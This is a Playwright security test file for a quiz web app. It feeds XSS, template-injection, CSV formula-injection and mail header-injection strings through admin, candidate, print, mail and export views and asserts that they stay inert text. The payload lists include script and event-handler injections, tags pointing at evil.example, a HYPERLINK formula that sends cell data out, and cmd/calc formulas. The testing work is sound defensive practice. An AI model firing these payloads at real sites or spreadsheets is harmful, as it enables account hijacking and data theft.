import type { Page } from '@playwright/test';
import type { AdminClient, PreparedQuiz } from './support/admin-client.ts';
import { Candidate } from './support/candidate.ts';
import { download } from './support/controls.ts';
import { expect, test } from './support/e2e-test.ts';
import { PAGE_ONLY } from './support/policies.ts';
import { parseCsv } from './support/question-file.ts';
import { mailServer } from './support/server-settings.ts';
import { signInAsAdmin } from './support/sign-in.ts';
import { beginAttempt } from './support/written-attempts.ts';

test.use({ database: 'hostile texts' });

/**
 * Texts that run code if they are interpreted as markup, URL, template, style or formula. An element
 * made from one carries `data-hostile`.
 */
const SCRIPTS = [
  '<script data-hostile>alert(1)</script>',
  '"><img data-hostile src=x onerror=alert(1)>',
  "'><svg data-hostile onload=alert(1)>",
  '<iframe data-hostile srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '</title></textarea></style><script data-hostile>alert(1)</script>',
  '<a data-hostile href="javascript:alert(1)">x</a>',
  '<style data-hostile>*{display:none}</style>',
  '<base data-hostile href="https://evil.example/">',
  '<meta data-hostile http-equiv=refresh content="0;url=https://evil.example">',
  '<form data-hostile action="https://evil.example"><button>x</button></form>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: as a template would have it
  '{{constructor.constructor("alert(1)")()}} ${alert(1)} <%= 7*7 %>',
  'javascript:alert(1)//https://evil.example',
] as const;

/** Formulas that a spreadsheet would run; no cell of an may begin as they do. */
const FORMULAS = [
  '=HYPERLINK("https://evil.example?"&A1,"x")',
  "+cmd|' /C calc'!A1",
  "-2+3+cmd|' /C calc'!A1",
  "@SUM(1+1)*cmd|' /C calc'!A1",
  '=1+1";=1+1',
  '＝1+1',
] as const;

/** The n-th text of both lists together. */
function hostileText(n: number): string {
  const all = [...SCRIPTS, ...FORMULAS];
  return all[n % all.length] ?? '';
}

/** Records dialogs, and requests to other origins. */
class ScriptWatch {
  readonly seen: string[] = [];

  /** Watches all pages of this page's context from now on. */
  watch(page: Page, own: string): void {
    page.context().on('dialog', async (dialog) => {
      this.seen.push(`dialog: ${dialog.message()}`);
      await dialog.dismiss();
    });
    page.context().on('request', (request) => {
      const url = request.url();
      if (!url.startsWith(own) && !/^(data|blob|about):/.test(url))
        this.seen.push(`request: ${url}`);
    });
  }
}

/** Elements and event handlers that came from a text. */
function hostileElements(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const elements = document.querySelectorAll('[data-hostile], base, [href^="javascript:" i]');
    const handlers = [...document.querySelectorAll('*')].filter((element) =>
      [...element.attributes].some(({ name }) => /^on[a-z]+$/.test(name)),
    );
    return [...elements, ...handlers].map((element) => element.outerHTML.slice(0, 200));
  });
}

/** No text has become an element. */
async function expectOnlyText(page: Page, where: string): Promise<void> {
  expect(await hostileElements(page), where).toEqual([]);
}

/** No cell begins as a formula does; numbers are allowed. */
function expectNoFormula(rows: string[][], where: string): void {
  expect(rows.length, where).toBeGreaterThan(1);
  for (const cell of rows.flat()) {
    if (!/^-?\d+([.,:]\d+)*$/.test(cell))
      expect(cell, where).not.toMatch(/^[=+\-@\t\r\n\0＝＋－＠]/);
  }
}

const MOST = SCRIPTS.length;
/** Addresses that are valid in mail and formulas in a spreadsheet. */
const ADDRESSES = ["=1+1|'cmd'@example.org", '+a`b@example.org', '-x{{1}}@example.org'];

/** An assessment with only hostile texts; `n` selects the first one. */
async function hostileQuiz(adminClient: AdminClient, n: number): Promise<PreparedQuiz> {
  const categoryId = await adminClient.category(hostileText(n).slice(0, 100), hostileText(n + 1));
  const questions = Array.from({ length: 5 }, (_, i) => {
    const options = [1, 2, 3, 4].map((o) => `${hostileText(n + i + o)} ${o}`);
    return {
      question: `${hostileText(n + i)} (${n}.${i})`,
      options,
      correctAnswer: options[0] ?? '',
    };
  });
  const policy = { ...PAGE_ONLY, fullscreen: false, tabHidden: 'record' };
  const settings = { categoryId, description: hostileText(n + 2), policy };
  return adminClient.quiz(`${hostileText(n)} ${n}`, settings, questions);
}

test('hostile input stays text on every screen, on paper, in mail and in every export', {
  tag: '@long',
}, async ({ page, visitor, adminClient, testServer, request }) => {
  const scriptWatch = new ScriptWatch();
  scriptWatch.watch(page, testServer.url);
  await page.addInitScript(() => {
    window.print = () => window.dispatchEvent(new Event('beforeprint'));
  });

  const quizzes: PreparedQuiz[] = [];
  for (let n = 0; n < MOST; n += 4) quizzes.push(await hostileQuiz(adminClient, n));
  const [quiz] = quizzes;
  if (quiz === undefined) throw new Error('one was made');
  const [first = '', ...others] = ADDRESSES;
  const writer = await beginAttempt(adminClient, quiz, first);
  const [second] = await adminClient.invite(quiz, ...others);
  if (second === undefined) throw new Error('they were invited');
  const violation = await writer.person.call('reportViolation', {
    body: { participantId: writer.id, violationType: 'window_blur', notes: hostileText(1) },
  });
  await writer.person.call('noteViolation', {
    params: { id: violation.body.id },
    body: { note: hostileText(2) },
  });
  const params = { id: writer.id };
  await adminClient.must('sendMessage', { params, body: { text: hostileText(3) } });
  await adminClient.must('noteParticipant', { params, body: { note: hostileText(4) } });
  await adminClient.must('extendParticipant', {
    params,
    body: { minutes: 1, reason: hostileText(0) },
  });
  await adminClient.must('createAdmin', {
    body: { email: "o'hare+x@example.org", password: 'another quiet desk' },
  });

  // Administrators.
  await signInAsAdmin(page);
  const visit = async (path: string, text: string) => {
    await page.goto(path);
    await expect(page.getByText(text).filter({ visible: true }).first()).toBeVisible();
    await expectOnlyText(page, path);
  };
  await visit('/admin/dashboard', 'Recent Activity');
  await visit('/admin/categories', hostileText(0).slice(0, 100));
  await visit('/admin/live', ADDRESSES[0] ?? '');
  await visit('/admin/participants', ADDRESSES[0] ?? '');
  await page
    .getByRole('link', { name: /^Open the record of/ })
    .first()
    .click();
  await expect(page.getByRole('heading', { name: 'Timeline' })).toBeVisible();
  await expect(page.getByText(hostileText(2)).first()).toBeVisible();
  await expectOnlyText(page, 'the record');
  await visit('/admin/settings/outbox', ADDRESSES[1] ?? '');
  await page.getByRole('button', { name: `Open message to ${ADDRESSES[1]}` }).click();
  await expect(page.getByText('One-time password:')).toBeVisible();
  await expectOnlyText(page, 'a waiting message');

  for (const { title } of quizzes) {
    await visit('/admin/quizzes', title);
    await page.getByRole('button', { name: `Manage questions of ${title}`, exact: true }).click();
    const dialog = page.getByRole('dialog', { name: 'Manage Questions' });
    await dialog.getByRole('button', { name: 'Edit question 1', exact: true }).click();
    await expectOnlyText(page, 'questions');
    const { text } = await download(dialog.getByRole('button', { name: 'Export', exact: true }));
    expectNoFormula(parseCsv(text), 'exported questions');
    await page.goto('/admin/quizzes');
    await page.getByRole('button', { name: `Manage questions of ${title}`, exact: true }).click();
    await dialog.getByRole('button', { name: 'Print', exact: true }).click();
    await expect(page.locator('[data-paper]')).toBeAttached();
    await page.emulateMedia({ media: 'print' });
    await expectOnlyText(page, 'questions on paper');
    await page.emulateMedia({ media: null });
    await page.goto('/admin/quizzes');
    await page.getByRole('button', { name: `More for ${title}`, exact: true }).click();
    await page.getByRole('menuitem', { name: 'Preview' }).click();
    await expect(page.getByRole('radio').first()).toBeVisible();
    await expectOnlyText(page, 'the preview');
    await page.goto('/admin/quizzes');
    await page.getByRole('button', { name: `Invite to ${title}`, exact: true }).click();
    await page.getByLabel('Email addresses').fill(`${hostileText(0)}\nx@example.org`);
    await page.getByRole('button', { name: 'Send Invitations' }).click();
    await expect(page.getByRole('list', { name: 'Results' })).toBeVisible();
    await expectOnlyText(page, 'the results of an invitation');
  }

  // A candidate.
  const candidate = new Candidate(await visitor(), second);
  scriptWatch.watch(candidate.page, testServer.url);
  await candidate.signIn();
  await expectOnlyText(candidate.page, 'the instructions');
  await candidate.begin();
  const mine = await adminClient.must('listParticipants', { query: { status: 'in_progress' } });
  for (const { id } of mine) {
    await adminClient.must('sendMessage', { params: { id }, body: { text: hostileText(1) } });
  }
  await expect(candidate.page.getByText(hostileText(1)).first()).toBeVisible();
  for (let n = 1; n <= 5; n += 1) {
    await candidate.go(n);
    await expectOnlyText(candidate.page, `question ${n}`);
  }
  await candidate.page.goto('/quiz/review');
  await expect(candidate.page.getByRole('heading', { name: 'Review Your Answers' })).toBeVisible();
  await expectOnlyText(candidate.page, 'the review');

  // Mail, opened in a browser, which would run its scripts.
  await adminClient.must('putSmtpSettings', { body: mailServer(testServer.sink.port) });
  const mailed = quizzes.length;
  for (const [n, one] of quizzes.entries()) {
    const body = {
      emails: [`mail${n}@example.org`],
      subject: `${hostileText(n)}\r\nBcc: x@evil.example`,
      message: hostileText(n + 5),
    };
    await adminClient.must('inviteToQuiz', { params: { id: one.id }, body });
  }
  await expect.poll(() => testServer.sink.mails.length).toBeGreaterThanOrEqual(mailed);
  const letter = await visitor();
  scriptWatch.watch(letter, testServer.url);
  for (const { mail, to } of testServer.sink.mails) {
    expect(to).toHaveLength(1);
    expect([mail.bcc ?? [], mail.cc ?? []]).toEqual([[], []]);
    await letter.setContent(mail.html ?? '');
    await expectOnlyText(letter, `mail to ${to[0]}`);
  }

  // Exports.
  await signInAsAdmin(page);
  for (const path of ['/api/participants/export', '/api/audit/export']) {
    const file = await page.request.get(path);
    expect(file.status()).toBe(200);
    expectNoFormula(parseCsv(await file.text()), path);
  }
  expect((await request.get('/api/participants/export')).status()).toBe(401);
  expect(scriptWatch.seen).toEqual([]);
});

test('markup that becomes part of a page is detected', { tag: '@long' }, async ({
  visitor,
  testServer,
}) => {
  const page = await visitor();
  const scriptWatch = new ScriptWatch();
  scriptWatch.watch(page, testServer.url);
  // The refresh is left out, as it leads to the browser's error page.
  const injected = SCRIPTS.filter((one) => /data-hostile/.test(one) && !/http-equiv/.test(one));
  for (const text of injected) {
    await page.setContent(`<p>${text}</p>`);
    expect(await hostileElements(page), text).not.toEqual([]);
  }
  expect(scriptWatch.seen).toContain('dialog: 1');
});
